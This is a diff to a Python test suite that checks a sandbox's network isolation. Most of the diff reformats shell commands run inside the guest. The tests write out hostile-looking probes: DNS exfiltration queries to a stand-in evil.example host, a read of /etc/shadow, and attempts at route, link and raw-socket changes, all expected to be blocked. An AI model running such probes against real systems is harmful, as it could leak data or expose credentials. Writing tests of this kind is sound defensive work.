@@ -24,8 +24,11 @@ CURL = "curl -sS -m 3 -o /dev/null -w '%{http_code}'"
 
 
 def test_model_server_reachable_only_on_its_port(sandbox: Runner) -> None:
-    r = sandbox.sh(f"{CURL} http://10.77.0.10:8000/v1/models; echo; "
-                   f"{CURL} http://10.77.0.10:22/ || echo blocked", mode="locked")
+    r = sandbox.sh(
+        f"{CURL} http://10.77.0.10:8000/v1/models; echo; "
+        f"{CURL} http://10.77.0.10:22/ || echo blocked",
+        mode="locked",
+    )
     assert r.exit_code == 0
     events = sandbox.events(r)
     allowed = conns(events, "10.77.0.10", 8000)
@@ -62,9 +65,12 @@ def test_cloud_metadata_by_ip_and_by_odd_spellings(sandbox: Runner) -> None:
 
 
 def test_gateway_own_ports_closed_but_dns(sandbox: Runner) -> None:
-    r = sandbox.sh("gw=$(awk '/nameserver/{print $2}' /etc/resolv.conf); "
-                   f"{CURL} http://$gw:22/; {CURL} http://$gw:8080/; "
-                   "dig +short +time=2 +tries=1 @$gw example.com", mode="open")
+    r = sandbox.sh(
+        "gw=$(awk '/nameserver/{print $2}' /etc/resolv.conf); "
+        f"{CURL} http://$gw:22/; {CURL} http://$gw:8080/; "
+        "dig +short +time=2 +tries=1 @$gw example.com",
+        mode="open",
+    )
     events = sandbox.events(r)
     gw_drops = [e for e in events if e.kind is Kind.CONN and e.port in (22, 8080)]
     assert {e.port for e in gw_drops} == {22, 8080}
@@ -77,8 +83,9 @@ def test_lateral_to_another_guest_is_dropped(sandbox: Runner) -> None:
     server = {}
 
     def serve() -> None:
-        server["result"] = sandbox.sh("timeout 8 python3 -m http.server 8080 >/dev/null 2>&1; true",
-                                      mode="open")
+        server["result"] = sandbox.sh(
+            "timeout 8 python3 -m http.server 8080 >/dev/null 2>&1; true", mode="open"
+        )
 
     t = threading.Thread(target=serve)
     t.start()
@@ -95,9 +102,11 @@ def test_lateral_to_another_guest_is_dropped(sandbox: Runner) -> None:
 
 def test_dns_to_an_outside_server_is_answered_by_the_gateway(sandbox: Runner) -> None:
     before = len(sandbox.world_log("dns"))
-    r = sandbox.sh("dig +time=2 +tries=1 @198.51.100.53 leak-test-1.evil.example; "
-                   "dig +tcp +time=2 +tries=1 @198.51.100.53 leak-test-2.evil.example",
-                   mode="locked")
+    r = sandbox.sh(
+        "dig +time=2 +tries=1 @198.51.100.53 leak-test-1.evil.example; "
+        "dig +tcp +time=2 +tries=1 @198.51.100.53 leak-test-2.evil.example",
+        mode="locked",
+    )
     events = sandbox.events(r)
     redirected = [e for e in events if e.kind is Kind.CONN and e.reason == "deny.dns_redirect"]
     assert {e.protocol for e in redirected} == {"udp", "tcp"}
@@ -112,8 +121,10 @@ def test_dns_to_an_outside_server_is_answered_by_the_gateway(sandbox: Runner) ->
 def test_locked_mode_sends_nothing_upstream_for_exfiltration_labels(sandbox: Runner) -> None:
     label = "a" * 60
     before = len(sandbox.world_log("dns"))
-    r = sandbox.sh(f"for i in 1 2 3; do dig +short +time=1 +tries=1 {label}$i.exfil.evil.example; done",
-                   mode="locked")
+    r = sandbox.sh(
+        f"for i in 1 2 3; do dig +short +time=1 +tries=1 {label}$i.exfil.evil.example; done",
+        mode="locked",
+    )
     asked = [e for e in sandbox.events(r, Kind.DNS) if e.name and label in e.name]
     assert len(asked) >= 3 and all(e.verdict == "deny" and e.reason == "deny.locked" for e in asked)
     time.sleep(0.2)
@@ -121,7 +132,9 @@ def test_locked_mode_sends_nothing_upstream_for_exfiltration_labels(sandbox: Run
 
 
 def test_hardcoded_public_ip_and_icmp_in_locked_mode(sandbox: Runner) -> None:
-    r = sandbox.sh(f"{CURL} http://198.51.100.10/; ping -c 1 -W 1 198.51.100.10; true", mode="locked")
+    r = sandbox.sh(
+        f"{CURL} http://198.51.100.10/; ping -c 1 -W 1 198.51.100.10; true", mode="locked"
+    )
     events = conns(sandbox.events(r), "198.51.100.10")
     assert {e.category for e in events} >= {"TCP", "ICMP"}
     assert all(e.verdict == "deny" and e.reason == "deny.locked" for e in events)
@@ -129,8 +142,9 @@ def test_hardcoded_public_ip_and_icmp_in_locked_mode(sandbox: Runner) -> None:
 
 
 def test_open_mode_reaches_the_internet_by_name_and_ip(sandbox: Runner) -> None:
-    r = sandbox.sh(f"{CURL} https://example.com/ && echo && {CURL} http://198.51.100.10/echo",
-                   mode="open")
+    r = sandbox.sh(
+        f"{CURL} https://example.com/ && echo && {CURL} http://198.51.100.10/echo", mode="open"
+    )
     assert r.exit_code == 0
     events = sandbox.events(r)
     assert dns(events, "example.com")[0].verdict == "allow"
@@ -139,8 +153,11 @@ def test_open_mode_reaches_the_internet_by_name_and_ip(sandbox: Runner) -> None:
 
 
 def test_rebinding_name_is_refused(sandbox: Runner) -> None:
-    r = sandbox.sh("dig +time=2 +tries=1 rebind.example; dig +short metadata.example; "
-                   f"{CURL} http://rebind.example/ || true", mode="open")
+    r = sandbox.sh(
+        "dig +time=2 +tries=1 rebind.example; dig +short metadata.example; "
+        f"{CURL} http://rebind.example/ || true",
+        mode="open",
+    )
     events = sandbox.events(r)
     for name in ("rebind.example", "metadata.example"):
         asked = [e for e in dns(events, name) if e.details.get("qtype") == "A"]
@@ -168,28 +185,32 @@ def test_allowlist_reaches_only_addresses_of_allowed_names(sandbox: Runner) -> N
 
 
 def test_quic_and_dns_over_tls_are_dropped(sandbox: Runner) -> None:
-    r = sandbox.sh("python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
-                   "s.sendto(b'x', ('203.0.113.10', 443))\"; "
-                   f"{CURL} telnet://198.51.100.53:853 || true", mode="open")
+    r = sandbox.sh(
+        'python3 -c "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); '
+        "s.sendto(b'x', ('203.0.113.10', 443))\"; "
+        f"{CURL} telnet://198.51.100.53:853 || true",
+        mode="open",
+    )
     events = sandbox.events(r)
     assert conns(events, "203.0.113.10", 443)[0].reason == "deny.quic"
     assert conns(events, "198.51.100.53", 853)[0].reason == "deny.dns_bypass"
 
 
 def test_network_admin_from_inside_fails(sandbox: Runner) -> None:
-    r = sandbox.sh("nft list ruleset && echo NFT-OK; ip addr add 10.201.0.99/30 dev eth0 && echo ADDR-OK; "
-                   "ip route add 10.0.0.0/8 dev eth0 && echo ROUTE-OK; ip link set eth0 down && echo LINK-OK; "
-                   "unshare -n true && echo UNSHARE-OK; "
-                   "python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\" "
-                   "&& echo RAW-OK; ls /run /var/run 2>/dev/null; id -u; echo end", mode="open")
-    assert r.exit_code == 0
-    # The report's command output went to our stdout; check by re-running with capture.
-    out = _capture(sandbox, "nft list ruleset 2>&1; ip addr add 10.201.0.99/30 dev eth0 2>&1; "
-                            "ip route add 10.0.0.0/8 dev eth0 2>&1; ip link set eth0 down 2>&1; "
-                            "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)' "
-                            "2>&1 | tail -1; ls -A /run; id -u; cat /etc/shadow 2>&1 | head -1")
-    assert "Operation not permitted" in out or "not permitted" in out
-    assert "table" not in out  # no ruleset listed
+    out = _capture(
+        sandbox,
+        "nft list ruleset 2>&1; "
+        "ip addr add 10.201.0.99/30 dev eth0 2>&1; "
+        "ip route add 10.0.0.0/8 dev eth0 2>&1; "
+        "ip link set eth0 down 2>&1; "
+        "unshare -n true 2>&1; "
+        "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)' 2>&1 "
+        "| tail -1; "
+        "echo run: $(ls -A /run); id -u; cat /etc/shadow 2>&1 | head -1",
+    )
+    assert out.count("Operation not permitted") >= 5, out
+    assert "table" not in out  # no ruleset was listed
+    assert "run:\n" in out  # nothing of the host's /run (no sockets)
     assert str(UID_BASE) in out
     assert "Permission denied" in out  # /etc/shadow
 
